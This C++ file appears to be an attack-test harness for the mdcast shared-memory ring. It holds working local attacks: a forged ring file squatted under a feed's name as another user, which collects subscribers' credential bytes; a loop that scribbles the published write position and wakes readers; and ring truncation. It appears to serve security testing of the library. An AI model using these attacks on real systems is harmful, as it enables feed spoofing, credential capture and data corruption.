// Attacks on the shm ring: a file squatted under the feed's name by another
// user, a write position scribbled over, a ring file truncated under its
// readers.
#include <fcntl.h>
#include <fmt/format.h>
#include <grp.h>
#include <linux/futex.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <climits>
#include <cstring>

#include "attack.hpp"
#include "mdcast/core/error.hpp"
#include "mdcast/core/mapped_memory.hpp"
#include "mdcast/core/process.hpp"
#include "mdcast/history/slot_log.hpp"
#include "mdcast/media/shm/shm_ring.hpp"
#include "mdcast/media/stream/stream_control.hpp"

namespace mdcast::attack {
namespace {

namespace shm = media::shm;

std::string target_path(const RingTarget& t) { return shm::find_ring(t.name, t.dir); }

std::atomic<uint64_t>& header_word(const MappedMemory& m, size_t off) {
  return *reinterpret_cast<std::atomic<uint64_t>*>(m.data() + off);
}

// A ring file that passes for a publisher's: the header a reader of this
// layout accepts, naming `control` as where its publisher listens, and this
// (live) process as its writer. Small geometry: it only has to be believed.
MappedMemory forge_ring(const UniqueFd& f, const std::string& control, size_t& bytes) {
  constexpr size_t kSlots = 64;
  constexpr size_t kMaxDatagram = 4032;
  shm::RingHeaderView h{};
  h.version = shm::kRingLayoutVersion;
  h.header_size = shm::kRingHeaderSize;
  h.slot_size = history::SlotLog::slot_size_for(kMaxDatagram);
  h.slots = kSlots;
  h.max_datagram = kMaxDatagram;
  h.writer_pid = static_cast<uint64_t>(::getpid());
  h.writer_start = process_start_time(h.writer_pid);
  h.session = 1;
  h.channel = 1;
  std::memcpy(h.control, control.data(), std::min(control.size(), sizeof h.control - 1));
  h.ring_offset = shm::kRingOffset;
  h.ring_bytes = history::SlotLog::kControlSize + h.slots * h.slot_size;
  h.lane_offset = (h.ring_offset + h.ring_bytes + 63) / 64 * 64;
  h.lane_slot_size = (shm::kLaneHeader + kMaxDatagram + 63) / 64 * 64;
  h.lane_slots = shm::kLaneSlots;
  bytes = h.lane_offset + h.lane_slots * h.lane_slot_size;
  if (::ftruncate(f.get(), static_cast<off_t>(bytes)) != 0) fail_errno("squat: cannot size the ring to {} bytes", bytes);
  MappedMemory m = MappedMemory::shared(f.get(), bytes, true, "squatted ring");
  h.magic = 0;  // published last, as the real writer does
  std::memcpy(m.data(), &h, sizeof h);
  history::SlotLog::format({m.data() + h.ring_offset, h.ring_bytes}, h.slot_size);
  header_word(m, 0).store(shm::kRingMagic, std::memory_order_release);
  return m;
}

UniqueFd listen_on(const std::string& control) {
  const auto sa = media::SocketAddress::parse(control);
  UniqueFd l(::socket(sa.family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
  if (!l) fail_errno("squat: socket");
  if (::bind(l.get(), reinterpret_cast<const sockaddr*>(&sa.storage), sa.length) != 0 || ::listen(l.get(), 64) != 0)
    fail_errno("squat: cannot listen on {}", control);
  return l;
}

}  // namespace

int squat(const RingTarget& t, double seconds, unsigned uid, const std::string& control_in) {
  if (::geteuid() != 0) {
    fmt::print("squat: needs root to act as another user (uid {}): skipped\n", uid);
    return 77;
  }
  // From here on, a user with no claim on the feed: what any local account can do.
  const auto id = static_cast<uid_t>(uid);
  if (::setgroups(0, nullptr) != 0 || ::setresgid(id, id, id) != 0 || ::setresuid(id, id, id) != 0)
    fail_errno("squat: cannot become uid {}", uid);
  const std::string dir = t.dir.empty() ? "/dev/shm" : t.dir;
  const std::string path = shm::ring_path(dir, t.name);
  const std::string control =
      control_in.empty() ? fmt::format("unix:@mdcast-squat-{}-{}", t.name, ::getpid()) : control_in;
  UniqueFd listener = listen_on(control);
  UniqueFd f(::open(path.c_str(), O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0644));
  if (!f) fail_errno("squat: cannot create {}", path);
  ::fchmod(f.get(), 0644);  // whatever the umask: readable, as a real ring is
  size_t bytes = 0;
  MappedMemory ring = forge_ring(f, control, bytes);
  fmt::print("squatting path={} uid={} bytes={} control={}\n", path, uid, bytes, control);
  std::fflush(stdout);

  struct Peer {
    UniqueFd fd;
    FrameSkimmer skim;
  };
  std::vector<Peer> peers;
  uint64_t connections = 0, frames = 0, bytes_in = 0, subscribes = 0, credential_bytes = 0;
  const uint64_t t0 = monotonic_ns();
  const uint64_t end = t0 + static_cast<uint64_t>(seconds * 1e9);
  std::vector<pollfd> pfds;
  std::vector<Answer> got;
  while (!g_stop && monotonic_ns() < end) {
    // A live writer's liveness stamp: nothing about this ring looks abandoned.
    header_word(ring, shm::kAliveOffset).store(monotonic_ns(), std::memory_order_relaxed);
    pfds.assign(1, {listener.get(), POLLIN, 0});
    for (const Peer& p : peers) pfds.push_back({p.fd.get(), POLLIN, 0});
    if (::poll(pfds.data(), pfds.size(), 20) <= 0) continue;
    if (pfds[0].revents & POLLIN) {
      for (int fd; (fd = ::accept4(listener.get(), nullptr, nullptr, SOCK_NONBLOCK | SOCK_CLOEXEC)) >= 0;) {
        peers.push_back({UniqueFd(fd), {}});
        ++connections;
        fmt::print("squat: a subscriber connected (connection {})\n", connections);
      }
    }
    for (size_t i = 1; i < pfds.size(); ++i) {
      if (!(pfds[i].revents & (POLLIN | POLLHUP | POLLERR))) continue;
      Peer& p = peers[i - 1];
      std::byte buf[64 * 1024];
      const ssize_t n = ::recv(p.fd.get(), buf, sizeof buf, MSG_DONTWAIT);
      if (n <= 0) continue;
      bytes_in += static_cast<uint64_t>(n);
      (void)p.skim.feed({buf, static_cast<size_t>(n)}, [&](const Answer& a) { got.push_back(a); });
    }
    for (const Answer& a : got) {
      ++frames;
      if (a.kind != Answer::Kind::kSubscribe) continue;
      ++subscribes;
      credential_bytes += a.credential_bytes;
    }
    got.clear();
  }
  ::unlink(path.c_str());
  Report()
      .add("uid", static_cast<uint64_t>(uid))
      .add("connections", connections)
      .add("frames", frames)
      .add("bytes", bytes_in)
      .add("subscribes", subscribes)
      .add("credential_bytes", credential_bytes)
      .print();
  return 0;
}

int scribble_position(const RingTarget& t, uint64_t value, double seconds) {
  const std::string path = target_path(t);
  UniqueFd f(::open(path.c_str(), O_RDWR | O_CLOEXEC));
  if (!f) fail_errno("scribble-position: cannot open {} for writing", path);
  MappedMemory hdr = MappedMemory::shared(f.get(), shm::kRingHeaderSize, true, "ring header " + path);
  auto& published = header_word(hdr, shm::kPublishedOffset);
  auto& event = header_word(hdr, shm::kEventOffset);
  fmt::print("scribble-position: {}: published position := {} for {} s\n", path, value, seconds);
  std::fflush(stdout);  // the scenario starts its late joiner on this line
  const uint64_t t0 = monotonic_ns();
  const uint64_t end = t0 + static_cast<uint64_t>(seconds * 1e9);
  uint64_t writes = 0, restored = 0, last_real = 0;
  // A tight loop: the writer's own value survives only the instant between
  // its store and our next one, so a reader that looks now sees ours (a
  // reader positioning itself must not be lucky to be right).
  while (!g_stop && monotonic_ns() < end) {
    for (int i = 0; i < 4096; ++i) {
      const uint64_t seen = published.load(std::memory_order_acquire);
      if (seen != value) {
        ++restored;  // the writer published since
        last_real = seen;
      }
      published.store(value, std::memory_order_release);
      ++writes;
    }
    // Wake sleeping readers so they act on it now, as they would on a real datagram.
    event.fetch_add(1, std::memory_order_seq_cst);
    ::syscall(SYS_futex, hdr.data() + shm::kEventOffset, FUTEX_WAKE, INT_MAX, nullptr, nullptr, 0);
  }
  Report()
      .add("value", value)
      .add("writes", writes)
      .add("restored_by_writer", restored)
      .add("writer_position", last_real)
      .add("seconds", static_cast<double>(monotonic_ns() - t0) / 1e9)
      .print();
  return 0;
}

int truncate_ring(const RingTarget& t, uint64_t bytes, std::optional<unsigned> uid) {
  const std::string path = target_path(t);
  if (uid) {
    if (::geteuid() != 0) {
      fmt::print("truncate: needs root to act as another user (uid {}): skipped\n", *uid);
      return 77;
    }
    const auto id = static_cast<uid_t>(*uid);
    if (::setgroups(0, nullptr) != 0 || ::setresgid(id, id, id) != 0 || ::setresuid(id, id, id) != 0)
      fail_errno("truncate: cannot become uid {}", *uid);
  }
  UniqueFd f(::open(path.c_str(), O_RDWR | O_CLOEXEC));
  if (!f) {
    // What the ring's mode is for: another user cannot write, so cannot truncate.
    const int err = errno;
    fmt::print("truncate: {} refused: {}\n", path, std::strerror(err));
    Report().add("refused", uint64_t{1}).add("errno", static_cast<uint64_t>(err)).print();
    return 0;
  }
  struct stat st {};
  ::fstat(f.get(), &st);
  if (::ftruncate(f.get(), static_cast<off_t>(bytes)) != 0) fail_errno("truncate: ftruncate {} to {} bytes", path, bytes);
  fmt::print("truncate: {} from {} to {} bytes\n", path, st.st_size, bytes);
  Report().add("old_bytes", static_cast<uint64_t>(st.st_size)).add("new_bytes", bytes).print();
  return 0;
}

}  // namespace mdcast::attack
